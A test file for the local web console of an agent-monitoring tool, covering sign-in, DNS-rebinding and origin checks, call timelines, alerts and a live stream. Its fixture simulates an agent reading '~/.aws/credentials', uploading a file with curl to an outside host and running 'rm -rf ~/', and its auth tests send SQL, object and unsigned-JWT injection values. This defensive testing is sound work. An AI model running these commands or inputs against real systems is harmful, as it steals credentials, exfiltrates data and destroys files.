import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { BriefCall, Timeline } from '../src/core/console.ts';
import type { Page, Store } from '../src/core/store.ts';
import type { Alert, CallRecord, Receipt } from '../src/core/verdict.ts';
import { mostUnread } from '../src/tell/api/live-stream.ts';
import { createLive, type LiveMessage } from '../src/tell/live.ts';
import { apiToken, bearer, openWorld, origin, type World } from './console-world.ts';

let world: World;
let first: string;

beforeAll(async () => {
  world = await openWorld();
  await world.hook({ hook_event_name: 'SessionStart', session_id: 's1', source: 'startup' });
  await world.hook({ hook_event_name: 'UserPromptSubmit', session_id: 's1', prompt: 'Tidy the export up' });
  first = await world.bash('s1', 'npm test');
  await world.hook({
    hook_event_name: 'PreToolUse',
    session_id: 's1',
    tool_name: 'WebFetch',
    tool_input: { url: 'https://notes.example/a', prompt: 'read' },
    tool_use_id: 'toolu_fetch',
  });
  world.clock.ms += 500;
  await world.bash('s1', 'cat ~/.aws/credentials');
  await world.bash('s1', 'curl -T notes.txt https://files.example/up');
  await world.bash('s1', 'rm -rf ~/');
  for (let n = 0; n < 25; n += 1) await world.bash('s2', `echo ${n}`);
});
afterAll(() => world.close());

const get = async (path: string, headers: Record<string, string> = bearer) => world.app.inject({ url: path, headers });
const json = async <T>(path: string): Promise<T> => {
  const answer = await get(path);
  expect(answer.statusCode, answer.body).toBe(200);
  return answer.json<T>();
};

/** One address for each route. A route that is not here fails the first test below. */
const addressOf: Readonly<Record<string, string>> = {
  'GET /healthz': '/healthz',
  'GET /login': '/login?code=wrong',
  'GET /login/page.css': '/login/page.css',
  'GET /api/v1/info': '/api/v1/info',
  'POST /api/v1/mode': '/api/v1/mode',
  'POST /api/v1/login-links': '/api/v1/login-links',
  'POST /api/v1/logout': '/api/v1/logout',
  'GET /api/v1/calls': '/api/v1/calls',
  'GET /api/v1/calls/:id': '/api/v1/calls/x',
  'GET /api/v1/sessions': '/api/v1/sessions',
  'GET /api/v1/sessions/:id': '/api/v1/sessions/s1',
  'GET /api/v1/sessions/:id/timeline': '/api/v1/sessions/s1/timeline',
  'GET /api/v1/alerts': '/api/v1/alerts',
  'POST /api/v1/alerts/:id/triage': '/api/v1/alerts/1/triage',
  'GET /api/v1/receipts': '/api/v1/receipts',
  'GET /api/v1/overview': '/api/v1/overview',
  'GET /api/v1/mcp-servers': '/api/v1/mcp-servers',
  'GET /api/v1/mcp-tool': '/api/v1/mcp-tool?server=notes&tool=echo',
  'GET /api/v1/agents': '/api/v1/agents',
  'GET /api/v1/checkpoint': '/api/v1/checkpoint',
  'GET /api/v1/inventory': '/api/v1/inventory',
  'POST /api/v1/inventory': '/api/v1/inventory',
  'GET /api/v1/inventory/agents': '/api/v1/inventory/agents',
  'POST /api/v1/inventory/agents/:id/standing': '/api/v1/inventory/agents/codex/standing',
  'GET /api/v1/inventory/devices': '/api/v1/inventory/devices',
  'POST /api/v1/inventory/devices/:id/forget': '/api/v1/inventory/devices/laptop/forget',
  'GET /api/v1/inventory/devices/:id': '/api/v1/inventory/devices/laptop',
  'GET /api/v1/inventory/servers': '/api/v1/inventory/servers',
  'GET /api/v1/inventory/server': '/api/v1/inventory/server?name=notes',
  'GET /api/v1/keys': '/api/v1/keys',
  'GET /api/v1/live': '/api/v1/live',
  'GET /api/v1/usage': '/api/v1/usage?by=person',
  'GET /api/v1/coverage': '/api/v1/coverage?by=team',
  'GET /api/v1/approvals': '/api/v1/approvals',
  'POST /api/v1/approvals/:id': '/api/v1/approvals/x',
  'GET /api/v1/devices': '/api/v1/devices',
  'GET /api/v1/devices/invites': '/api/v1/devices/invites',
  'POST /api/v1/devices/invites': '/api/v1/devices/invites',
  'DELETE /api/v1/devices/invites/:id': '/api/v1/devices/invites/x',
  'DELETE /api/v1/devices/:id': '/api/v1/devices/x',
};
const open = ['GET /healthz', 'GET /login', 'GET /login/page.css'];
const guarded = Object.entries(addressOf).filter(([route]) => !open.includes(route));
const body = (route: string) => (route.startsWith('POST') ? { payload: {} } : {});
const methodOf = (route: string) => (route.startsWith('POST') ? 'POST' : route.startsWith('DELETE') ? 'DELETE' : 'GET');

describe('who may ask', () => {
  test('every route has a case here, and only three are open to everyone', () => {
    const routes = world.app.consoleRoutes.map(({ method, path }) => `${method} ${path}`);
    expect(routes.sort()).toEqual(Object.keys(addressOf).sort());
    const publicRoutes = world.app.consoleRoutes.filter((route) => route.access === 'public');
    expect(publicRoutes.map(({ method, path }) => `${method} ${path}`)).toEqual(open);
    const changing = world.app.consoleRoutes.filter((route) => route.method !== 'GET');
    expect(changing.every((route) => route.access === 'change')).toBe(true);
  });

  const wrongCredentials: readonly (readonly [string, Record<string, string>])[] = [
    ['nothing', {}],
    ['a wrong token', { authorization: 'Bearer wrong' }],
    ['the token without its scheme', { authorization: apiToken }],
    ['the token in Basic', { authorization: `Basic ${Buffer.from(`x:${apiToken}`).toString('base64')}` }],
    ['an SQL injection', { authorization: "Bearer ' OR '1'='1" }],
    ['an object injection', { authorization: 'Bearer {"$ne":null}' }],
    ['an unsigned JSON web token', { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJkZXYifQ.' }],
    ['a made-up cookie', { cookie: 'warder_7717=AAAA' }],
    ['the prototype as a cookie', { cookie: 'warder_7717=__proto__; __proto__=x' }],
  ];
  test.each(wrongCredentials)('no route but the open ones answers to %s', async (_name, headers) => {
    for (const [route, url] of guarded) {
      const answer = await world.app.inject({
        method: methodOf(route),
        url,
        headers,
        ...body(route),
      });
      expect(answer.statusCode, route).toBe(401);
      expect(answer.json(), route).toMatchObject({ error: { code: 'not-signed-in' } });
    }
  });

  test('an address that does not exist tells a stranger no more than one that does', async () => {
    for (const url of ['/api/v1/nothing', '/assets/app.js', '/index.html', '/../src/server.ts']) {
      expect((await get(url, {})).statusCode, url).toBe(401);
    }
  });

  test('a stranger with a browser gets a page that says what to type, with nothing of the store in it', async () => {
    const answer = await get('/sessions/s1', { accept: 'text/html' });
    expect(answer.statusCode).toBe(401);
    expect(answer.body).toContain('bin/warder login');
    expect(answer.body).not.toContain('Tidy the export');
  });

  test('a foreign Host header is turned away on every route, so that DNS rebinding reads nothing', async () => {
    const foreign = [
      'evil.example',
      'evil.example:7717',
      '127.0.0.1.evil.example',
      'localhost.evil.example',
      '[::2]',
      '10.0.0.1',
      'a@127.0.0.1',
    ];
    for (const host of foreign) {
      for (const [route, url] of Object.entries(addressOf)) {
        const answer = await world.app.inject({
          method: route.startsWith('POST') ? 'POST' : 'GET',
          url,
          headers: { ...bearer, host },
          ...body(route),
        });
        expect(answer.statusCode, `${host} ${route}`).toBe(421);
      }
    }
    for (const host of ['127.0.0.1:7717', 'localhost:7717', '[::1]:7717', '127.8.8.8']) {
      expect((await get('/api/v1/info', { ...bearer, host })).statusCode, host).toBe(200);
    }
  });
});

describe('signing in', () => {
  const cookieFrom = (answer: { headers: Record<string, unknown> }): string => String(answer.headers['set-cookie']);
  const signIn = async (): Promise<string> => {
    const answer = await get(`/login?code=${world.loginCodes.issue()}`, {});
    return cookieFrom(answer).split(';')[0] ?? '';
  };

  test('a link signs one browser in, once', async () => {
    const link = await world.app.inject({ method: 'POST', url: '/api/v1/login-links', headers: bearer });
    const { loginUrl } = link.json<{ loginUrl: string }>();
    expect(loginUrl.startsWith(`${origin}/login?code=`)).toBe(true);
    const path = loginUrl.slice(origin.length);
    const answer = await get(path, {});
    expect(answer.statusCode).toBe(303);
    expect(answer.headers.location).toBe('/');
    expect(cookieFrom(answer)).toMatch(/^warder_7717=[\w-]{43}; Max-Age=\d+; Path=\/; HttpOnly; SameSite=Strict$/);
    const again = await get(path, {});
    expect(again.statusCode).toBe(401);
    expect(again.headers['set-cookie']).toBeUndefined();
    expect(again.body).toContain('bin/warder login');
  });

  test('a link is dead after ten minutes', async () => {
    const code = world.loginCodes.issue();
    const before = world.clock.ms;
    world.clock.ms += 10 * 60_000;
    expect((await get(`/login?code=${code}`, {})).statusCode).toBe(401);
    world.clock.ms = before;
  });

  test('each signing in gives a new cookie, whatever cookie came along', async () => {
    const answer = await world.app.inject({
      url: `/login?code=${world.loginCodes.issue()}`,
      headers: { cookie: `warder_7717=${'A'.repeat(43)}` },
    });
    expect(cookieFrom(answer)).not.toContain('A'.repeat(43));
    expect((await get('/api/v1/info', { cookie: `warder_7717=${'A'.repeat(43)}` })).statusCode).toBe(401);
  });

  test('signing out ends the session in the server, not only in the browser; cookies are kept as hashes only', async () => {
    const cookie = await signIn();
    expect((await get('/api/v1/info', { cookie })).statusCode).toBe(200);
    expect(await world.store.setting('console-sessions')).not.toContain(cookie.split('=')[1]);
    const out = await world.app.inject({
      method: 'POST',
      url: '/api/v1/logout',
      headers: { cookie, origin, host: '127.0.0.1:7717' },
    });
    expect(out.statusCode).toBe(204);
    expect((await get('/api/v1/info', { cookie })).statusCode).toBe(401);
  });

  test('with a cookie, a change needs the origin of the console itself; with a token it does not', async () => {
    const cookie = await signIn();
    for (const [route, url] of guarded.filter(([name]) => name.startsWith('POST'))) {
      for (const from of [
        undefined,
        'null',
        'https://evil.example',
        'http://127.0.0.1:9999',
        'http://localhost:7717',
      ]) {
        const answer = await world.app.inject({
          method: 'POST',
          url,
          headers: { cookie, host: '127.0.0.1:7717', ...(from ? { origin: from } : {}) },
          payload: {},
        });
        expect(answer.statusCode, `${route} from ${from}`).toBe(403);
      }
    }
    const own = await world.app.inject({
      method: 'POST',
      url: '/api/v1/mode',
      headers: { cookie, origin, host: '127.0.0.1:7717' },
      payload: { mode: 'enforce' },
    });
    expect(own.statusCode).toBe(200);
  });

  test('a form of another site cannot post: only JSON is read', async () => {
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const answer = await world.app.inject({
        method: 'POST',
        url: '/api/v1/mode',
        headers: { ...bearer, 'content-type': type },
        payload: '{"mode":"observe"}',
      });
      expect(answer.statusCode, type).toBe(415);
    }
  });
});

describe('what is answered', () => {
  test('every answer, also a refusal, carries the strict headers', async () => {
    for (const answer of [
      await get('/api/v1/info'),
      await get('/api/v1/info', {}),
      await get('/nothing', { accept: 'text/html' }),
      await get('/healthz', {}),
    ]) {
      expect(answer.headers['content-security-policy']).toMatch(
        /^default-src 'none'; script-src 'self'; style-src 'self';/,
      );
      expect(answer.headers['content-security-policy']).not.toContain('unsafe');
      expect(answer.headers['x-content-type-options']).toBe('nosniff');
      expect(answer.headers['referrer-policy']).toBe('no-referrer');
      expect(answer.headers['access-control-allow-origin']).toBeUndefined();
    }
    expect((await get('/api/v1/calls')).headers['cache-control']).toBe('no-store');
  });

  test('health needs no account and tells no content', async () => {
    const answer = await get('/healthz', {});
    expect(answer.json()).toEqual({ status: 'ok' });
  });

  test('paging gives each call once, newest first', async () => {
    const seen: CallRecord[] = [];
    let cursor = '';
    do {
      const page: Page<CallRecord> = await json(`/api/v1/calls?limit=7${cursor}`);
      seen.push(...page.items);
      cursor = page.next ? `&cursor=${encodeURIComponent(page.next)}` : '';
    } while (cursor);
    expect(new Set(seen.map((call) => call.id)).size).toBe(30);
    expect(seen.map((call) => call.at)).toEqual(
      seen
        .map((call) => call.at)
        .toSorted()
        .reverse(),
    );
  });

  test('filters narrow the calls', async () => {
    const ids = async (query: string) =>
      (await json<Page<CallRecord>>(`/api/v1/calls?${query}`)).items.map((call) => call.id);
    expect(await ids('session=s1&text=npm')).toEqual([first]);
    expect(await ids('session=s1')).toHaveLength(5);
    expect(await ids('tool=WebFetch')).toHaveLength(1);
    expect((await ids('decision=deny')).length).toBeGreaterThan(0);
    expect(await ids('minScore=90')).toHaveLength(1);
    expect(await ids('person=nobody')).toEqual([]);
    expect(await ids('since=1h')).toHaveLength(30);
    expect(await ids('since=2026-03-10T10:00:00Z')).toEqual([]);
  });

  test.each([
    ['/api/v1/calls?sevrity=alert', 'unknown-field', 'sevrity'],
    ['/api/v1/calls?severity=terrible', 'bad-request', 'severity'],
    ['/api/v1/calls?limit=100000', 'bad-request', 'limit'],
    ['/api/v1/calls?limit=abc', 'bad-request', 'limit'],
    ['/api/v1/calls?since=yesterday', 'bad-request', 'since'],
    ['/api/v1/calls?since=2026-99-99', 'bad-request', 'since'],
    ['/api/v1/calls?cursor=AAAA', 'bad-cursor', 'cursor'],
    ['/api/v1/agents?limit=3', 'unknown-field', 'limit'],
    ['/api/v1/sessions/s1/timeline?cursor=x', 'bad-cursor', 'cursor'],
    ['/api/v1/calls?session=a&session=b', 'bad-request', 'session'],
  ])('%s is refused and says why', async (path, code, word) => {
    const answer = await get(path);
    expect(answer.statusCode).toBe(400);
    const { error } = answer.json<{ error: { code: string; detail: string } }>();
    expect(error.code).toBe(code);
    expect(error.detail).toContain(word);
  });

  test("another list's cursor is refused", async () => {
    const { next } = await json<Page<CallRecord>>('/api/v1/calls?limit=1');
    expect((await get(`/api/v1/sessions?cursor=${next}`)).statusCode).toBe(400);
  });

  test('a call is given whole by its id; a list can leave inputs out', async () => {
    const call = await json<CallRecord>(`/api/v1/calls/${first}`);
    expect(call.input).toEqual({ command: 'npm test' });
    expect(call.phases.map((phase) => phase.phase)).toEqual(['before', 'after']);
    expect(call.receipt).toBeGreaterThan(0);
    await world.bash('s3', `echo ${'x'.repeat(5000)}`);
    const [brief] = (await json<Page<BriefCall>>('/api/v1/calls?brief=1&limit=1')).items;
    expect(brief).not.toHaveProperty('input');
    expect(JSON.stringify(brief?.action).length).toBeLessThan(500);
  });

  test('what is not there is said to be not there', async () => {
    for (const path of [
      '/api/v1/calls/none',
      '/api/v1/sessions/none',
      '/api/v1/sessions/none/timeline',
      `/api/v1/calls/${'x'.repeat(490)}`,
    ]) {
      expect((await get(path)).statusCode, path).toBe(404);
    }
  });

  test('a timeline is in the order things happened, and ties an action to what came in before it', async () => {
    const timeline = await json<Timeline>('/api/v1/sessions/s1/timeline');
    expect(timeline.items.map((item) => (item.kind === 'call' ? item.call.tool : item.event.kind))).toEqual([
      'session-start',
      'prompt',
      'Bash',
      'WebFetch',
      'Bash',
      'Bash',
      'Bash',
    ]);
    const calls = timeline.items.flatMap((item) => (item.kind === 'call' ? [item.call] : []));
    const [, fetched, secret, sent] = calls;
    expect(timeline.threads).toContainEqual({
      kind: 'untrusted',
      from: fetched?.id,
      to: sent?.id,
      what: 'fetched notes.example',
    });
    expect(
      timeline.threads.some(
        (thread) => thread.kind === 'sensitive' && thread.from === secret?.id && thread.to === sent?.id,
      ),
    ).toBe(true);
    expect(timeline.next).toBeNull();
  });

  test('a timeline comes in pages too', async () => {
    const one = await json<Timeline>('/api/v1/sessions/s1/timeline?limit=3');
    const two = await json<Timeline>(`/api/v1/sessions/s1/timeline?limit=100&cursor=${one.next}`);
    expect(one.items.length + two.items.length).toBe(7);
    expect(two.next).toBeNull();
  });

  test('receipts come in their order from any number on', async () => {
    const { items } = await json<Page<Receipt>>('/api/v1/receipts?from=5&limit=3');
    expect(items.map((receipt) => receipt.seq)).toEqual([5, 6, 7]);
  });

  test('an alert is triaged with a note, told to those who watch, and can be taken back', async () => {
    const [alert] = (await json<Page<Alert>>('/api/v1/alerts?state=open')).items;
    const told: LiveMessage[] = [];
    const stop = world.live.subscribe({ deliver: (message) => told.push(message) });
    const triage = (state: string, note: string) =>
      world.app.inject({
        method: 'POST',
        url: `/api/v1/alerts/${alert?.id}/triage`,
        headers: bearer,
        payload: { state, note },
      });
    expect((await triage('false-positive', 'a test of mine')).json()).toMatchObject({
      id: alert?.id,
      state: 'false-positive',
      note: 'a test of mine',
    });
    expect(told.map((message) => message.type)).toEqual(['alert']);
    stop();
    expect((await triage('open', '')).json()).toMatchObject({ state: 'open', note: '' });
    expect((await triage('gone', '')).statusCode).toBe(400);
    const absent = await world.app.inject({
      method: 'POST',
      url: '/api/v1/alerts/99999/triage',
      headers: bearer,
      payload: { state: 'open' },
    });
    expect(absent.statusCode).toBe(404);
  });

  test('the mode can be changed where the server allows it, and not elsewhere', async () => {
    const set = (app: World['app'], mode: string) =>
      app.inject({ method: 'POST', url: '/api/v1/mode', headers: bearer, payload: { mode } });
    expect((await set(world.app, 'observe')).json()).toEqual({ mode: 'observe' });
    await set(world.app, 'enforce');
    expect((await set(world.app, 'off')).statusCode).toBe(400);
    const fixed = await openWorld({ noModeSwitch: true });
    expect((await set(fixed.app, 'observe')).statusCode).toBe(409);
    await fixed.close();
  });

  test('without the built pages the API works, and a browser is told how to build them', async () => {
    const answer = await get('/live', { ...bearer, accept: 'text/html' });
    expect(answer.statusCode).toBe(503);
    expect(answer.body).toContain('npm run build');
    expect((await get('/api/v1/nothing')).statusCode).toBe(404);
  });

  test('what breaks inside is reported by reference; the answer quotes nothing of it', async () => {
    const broken = new Error('SELECT secret FROM calls failed');
    const full = Object.assign(
      new Error('the disk that holds /x is full; free some space and recording resumes by itself'),
      { code: 'disk-full' },
    );
    const wrapStore = (store: Store): Store => ({
      ...store,
      calls: () => Promise.reject(broken),
      agents: () => Promise.reject(full),
    });
    const failing = await openWorld({ wrapStore });
    const answer = await failing.app.inject({ url: '/api/v1/calls', headers: bearer });
    expect(answer.statusCode).toBe(500);
    expect(answer.body).not.toContain('secret');
    const reference = /reference (\w{8})/.exec(answer.body)?.[1] ?? 'none';
    expect(failing.reported).toEqual([`${reference} SELECT secret FROM calls failed`]);
    const agents = await failing.app.inject({ url: '/api/v1/agents', headers: bearer });
    expect(agents.statusCode).toBe(503);
    expect(agents.json()).toMatchObject({ error: { code: 'disk-full' } });
    await failing.close();
  });
});

describe('the live stream', () => {
  /** The console mounted as the server mounts it: beside other routes of a node:http server. */
  async function mounted(live: World): Promise<{ url: string; close(): Promise<void> }> {
    const server = http.createServer((request, response) => live.app.routing(request, response));
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const { port } = server.address() as AddressInfo;
    return {
      url: `http://127.0.0.1:${port}`,
      close: async () => {
        server.close();
        server.closeAllConnections();
        await once(server, 'close');
      },
    };
  }

  interface Watching {
    readonly seen: { id: string; event: string; data: string }[];
    readonly response: http.IncomingMessage;
    until(count: number): Promise<void>;
    stop(): void;
  }
  function watch(url: string, headers: Record<string, string> = {}): Promise<Watching> {
    return new Promise((resolve, reject) => {
      const request = http.get(`${url}/api/v1/live`, { headers: { ...bearer, ...headers } }, (response) => {
        const seen: Watching['seen'] = [];
        let text = '';
        response.setEncoding('utf8');
        response.on('error', () => {});
        response.on('data', (chunk: string) => {
          text += chunk;
          const blocks = text.split('\n\n');
          text = blocks.pop() ?? '';
          for (const block of blocks) {
            const field = (name: string) => new RegExp(`^${name}: (.*)$`, 'm').exec(block)?.[1] ?? '';
            if (field('event')) seen.push({ id: field('id'), event: field('event'), data: field('data') });
          }
          response.emit('seen');
        });
        const until = async (count: number): Promise<void> => {
          while (seen.length < count) await once(response, 'seen');
        };
        resolve({ seen, response, until, stop: () => request.destroy() });
      });
      request.on('error', reject);
    });
  }

  test('tells of calls and alerts as they happen, and resumes without a loss after a break', async () => {
    const { url, close } = await mounted(world);
    const one = await watch(url);
    expect(one.response.headers['content-type']).toContain('text/event-stream');
    expect(one.response.headers['content-security-policy']).toContain("default-src 'none'");
    await world.bash('s4', 'echo live');
    await one.until(2);
    expect(one.seen.map((message) => message.event)).toEqual(['call', 'call']);
    expect(JSON.parse(one.seen[0]?.data ?? '')).toMatchObject({ session: 's4', tool: 'Bash' });
    one.stop();
    await world.bash('s4', 'echo missed');
    const two = await watch(url, { 'last-event-id': one.seen[0]?.id ?? '' });
    await two.until(3);
    expect(two.seen.map((message) => message.event)).toEqual(['call', 'call', 'call']);
    two.stop();
    await close();
  });

  test('a reader that was away too long, or of another process, is told that it missed something', async () => {
    const { url, close } = await mounted(world);
    const keep = await watch(url);
    const other = await watch(url, { 'last-event-id': 'another-17' });
    await other.until(1);
    expect(other.seen[0]?.event).toBe('gap');
    other.stop();
    keep.stop();
    await close();
  });

  test('a reader that does not read costs a bounded buffer, and learns how much it missed', async () => {
    const { url, close } = await mounted(world);
    const slow = await watch(url);
    slow.response.pause();
    const [call] = (await world.store.calls({ limit: 1 })).items;
    if (!call) throw new Error('there is no call');
    const big = { ...call, why: 'w'.repeat(20_000) };
    const before = process.memoryUsage().heapUsed;
    for (let n = 0; n < 3000; n += 1) {
      world.live.publish({ type: 'call', call: big });
      if (n % 50 === 0) await new Promise((resolve) => setImmediate(resolve));
    }
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(mostUnread + 64 * 1024 * 1024);
    slow.response.resume();
    while (!slow.seen.some((message) => message.event === 'gap')) await once(slow.response, 'seen');
    const gap = slow.seen.find((message) => message.event === 'gap');
    expect(JSON.parse(gap?.data ?? '{}').dropped).toBeGreaterThan(0);
    slow.stop();
    await close();
  });

  test('closing the console ends open streams at once', async () => {
    const short = await openWorld();
    const { url, close } = await mounted(short);
    const open = await watch(url);
    const ended = once(open.response, 'close');
    await short.close();
    await ended;
    await close();
  });

  test('nothing is kept while nobody watches', () => {
    const live = createLive({ start: 'a' });
    const [message] = [0, 1, 2].map((n) => {
      live.publish({ type: 'alert', alert: { id: n } as Alert });
      return n;
    });
    const seen: string[] = [];
    live.subscribe({ after: 'a-1', deliver: ({ type }) => seen.push(type) });
    expect(message).toBe(0);
    expect(seen).toEqual(['gap']);
  });
});

test('an address that cannot be read at all is answered in the form of every other error', async () => {
  for (const path of ['/sessions/%F0%9F', '/api/v1/calls/%zz']) {
    const answer = await get(path);
    expect(answer.statusCode).toBe(400);
    expect(answer.json()).toEqual({ error: { code: 'bad-request', detail: 'This address cannot be read.' } });
  }
});
